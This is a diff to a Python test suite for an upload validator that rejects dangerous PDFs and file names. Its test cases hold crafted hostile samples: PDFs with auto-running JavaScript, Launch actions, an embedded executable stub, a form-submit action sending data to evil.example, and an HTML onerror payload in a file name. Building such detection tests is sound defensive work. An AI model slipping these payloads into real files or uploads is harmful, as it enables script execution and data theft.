@@ -2,6 +2,7 @@
 message, and the good ones accepted (images without their metadata)."""
 
 import io
+import re
 import zlib
 
 import pytest
@@ -48,26 +49,66 @@ def gps_exif() -> Image.Exif:
     return exif
 
 
-def pdf_bytes(body: bytes = b"", eof: bool = True) -> bytes:
-    data = (
-        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
-        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
-        + body
-        + b"trailer\n<< /Root 1 0 R >>\n"
+def _assemble_pdf(objects: bytes) -> tuple[bytes, dict[int, int]]:
+    head = b"%PDF-1.4\n"
+    offsets = {
+        int(m.group(1)): len(head) + m.start() for m in re.finditer(rb"(?m)^(\d+) 0 obj", objects)
+    }
+    return head + objects, offsets
+
+
+def pdf_bytes(body: bytes = b"", eof: bool = True, catalog: bytes = b"") -> bytes:
+    """A well-formed PDF (cross-reference table, trailer, startxref) with the
+    catalogue, an empty page tree and the objects in `body`."""
+    data, offsets = _assemble_pdf(
+        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog + b">>\nendobj\n"
+        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" + body
     )
+    size = max(offsets) + 1
+    xref = [b"xref\n", f"0 {size}\n".encode(), b"0000000000 65535 f \n"]
+    for number in range(1, size):
+        if number in offsets:
+            xref.append(f"{offsets[number]:010d} 00000 n \n".encode())
+        else:
+            xref.append(b"0000000000 00000 f \n")
+    start = len(data)
+    data += b"".join(xref) + f"trailer\n<< /Size {size} /Root 1 0 R >>\n".encode()
+    data += f"startxref\n{start}\n".encode()
     return data + (b"%%EOF\n" if eof else b"")
 
 
 def pdf_with_stream(content: bytes) -> bytes:
-    stream = zlib.compress(content)
-    obj = (
-        b"3 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length "
-        + str(len(stream)).encode()
+    """A PDF 1.5 whose object 5 (`content`, a dictionary) lives compressed in
+    object stream 3, found through a cross-reference stream."""
+    header = b"5 0 "
+    packed = zlib.compress(header + content)
+    data, offsets = _assemble_pdf(
+        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
+        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
+        b"3 0 obj\n<< /Type /ObjStm /N 1 /First "
+        + str(len(header)).encode()
+        + b" /Filter /FlateDecode /Length "
+        + str(len(packed)).encode()
         + b" >>\nstream\n"
-        + stream
+        + packed
         + b"\nendstream\nendobj\n"
     )
-    return pdf_bytes(obj)
+    data = data.replace(b"%PDF-1.4", b"%PDF-1.5")
+    xref_offset = len(data)
+    rows = [(0, 0, 65535), (1, offsets[1], 0), (1, offsets[2], 0), (1, offsets[3], 0)]
+    rows += [(0, 0, 0), (2, 3, 0), (1, xref_offset, 0)]
+    table = b"".join(
+        kind.to_bytes(1, "big") + field.to_bytes(4, "big") + gen.to_bytes(2, "big")
+        for kind, field, gen in rows
+    )
+    data += (
+        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length "
+        + str(len(table)).encode()
+        + b" >>\nstream\n"
+        + table
+        + b"\nendstream\nendobj\n"
+    )
+    return data + f"startxref\n{xref_offset}\n%%EOF\n".encode()
 
 
 def upload(name: str, data: bytes) -> SimpleUploadedFile:
@@ -173,8 +214,64 @@ BAD_FILES = [
     (
         "pdf-js-in-object-stream",
         "letter.pdf",
-        pdf_with_stream(b"5 0 << /S /JavaScript /JS (app.alert(1)) >>"),
+        pdf_with_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
         "active_content",
+    ),
+    (
+        # Issue 17: the old pattern scanner took this comment for a stream start
+        # and blanked the /OpenAction script that follows it.
+        "pdf-openaction-after-a-comment-saying-stream",
+        "letter.pdf",
+        pdf_bytes(
+            b"% this line says stream\n"
+            b"3 0 obj\n<< /S /JavaScript /JS (app.launchURL('x')) >>\nendobj\n"
+            b"% endstream\n",
+            catalog=b"/OpenAction 3 0 R ",
+        ),
+        "active_content",
+    ),
+    (
+        "pdf-openaction-written-in-the-catalogue",
+        "letter.pdf",
+        pdf_bytes(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
+        "active_content",
+    ),
+    (
+        "pdf-script-in-a-string-never-fools-the-parser",
+        "letter.pdf",
+        pdf_bytes(b"3 0 obj\n<< /Title (endobj) /AA << /O << /S /Launch >> >> >>\nendobj\n"),
+        "active_content",
+    ),
+    (
+        "pdf-document-javascript-name-tree",
+        "letter.pdf",
+        pdf_bytes(
+            b"3 0 obj\n<< /Names [(x) 4 0 R] >>\nendobj\n4 0 obj\n<< /S /JavaScript >>\nendobj\n",
+            catalog=b"/Names << /JavaScript 3 0 R >> ",
+        ),
+        "active_content",
+    ),
+    (
+        "pdf-embedded-file",
+        "letter.pdf",
+        pdf_bytes(
+            b"3 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>\nendobj\n"
+            b"4 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n",
+            catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >> ",
+        ),
+        "active_content",
+    ),
+    (
+        "pdf-submit-form",
+        "letter.pdf",
+        pdf_bytes(b"3 0 obj\n<< /S /SubmitForm /F (https://evil.example/) >>\nendobj\n"),
+        "active_content",
+    ),
+    (
+        "pdf-garbage-after-header",
+        "letter.pdf",
+        b"%PDF-1.7\n" + b"\x00\xff" * 400 + b"%%EOF",
+        "corrupt",
     ),
     ("markup-file-name", "<img src=x onerror=alert(1)>.png", png_bytes(), "bad_name"),
 ]
@@ -281,8 +378,60 @@ def test_good_files_are_accepted_with_a_safe_name(name, data, content_type, stor
 def test_a_pdf_with_compressed_streams_of_random_bytes_is_accepted():
     # Image data inside a PDF may contain "/JS" by chance; only dictionaries count.
     noise = bytes(range(256)) * 4 + b"/JS " + bytes(range(256))
-    obj = b"3 0 obj\n<< /Length 1000 >>\nstream\n" + noise + b"\nendstream\nendobj\n"
+    obj = b"3 0 obj\n<< /Length %d >>\nstream\n" % len(noise) + noise + b"\nendstream\nendobj\n"
     assert validate_upload(upload("scan.pdf", pdf_bytes(obj))).content_type == "application/pdf"
+
+
+def test_a_pdf_written_by_a_pdf_library_with_a_page_and_a_link_is_accepted():
+    from pypdf import PdfWriter
+    from pypdf.annotations import Link
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=200, height=200)
+    writer.add_annotation(0, Link(rect=(10, 10, 100, 30), url="https://example.org/"))
+    out = io.BytesIO()
+    writer.write(out)
+    assert validate_upload(upload("scan.pdf", out.getvalue())).content_type == "application/pdf"
+
+
+def test_a_pdf_with_javascript_added_by_a_pdf_library_is_refused():
+    from pypdf import PdfWriter
+    from pypdf.actions import JavaScript
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=200, height=200)
+    writer.add_open_action(JavaScript("app.alert('hi');"))
+    out = io.BytesIO()
+    writer.write(out)
+    with pytest.raises(UploadRejected) as refused:
+        validate_upload(upload("scan.pdf", out.getvalue()))
+    assert refused.value.code == "active_content"
+
+
+def test_a_pdf_with_an_attachment_added_by_a_pdf_library_is_refused():
+    from pypdf import PdfWriter
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=200, height=200)
+    writer.add_attachment("run.exe", b"MZ")
+    out = io.BytesIO()
+    writer.write(out)
+    with pytest.raises(UploadRejected) as refused:
+        validate_upload(upload("scan.pdf", out.getvalue()))
+    assert refused.value.code == "active_content"
+
+
+def test_a_password_protected_pdf_is_refused_with_its_own_message():
+    from pypdf import PdfWriter
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=200, height=200)
+    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
+    out = io.BytesIO()
+    writer.write(out)
+    with pytest.raises(UploadRejected) as refused:
+        validate_upload(upload("scan.pdf", out.getvalue()))
+    assert refused.value.code == "encrypted"
 
 
 def test_refusal_messages_are_translated_to_korean():
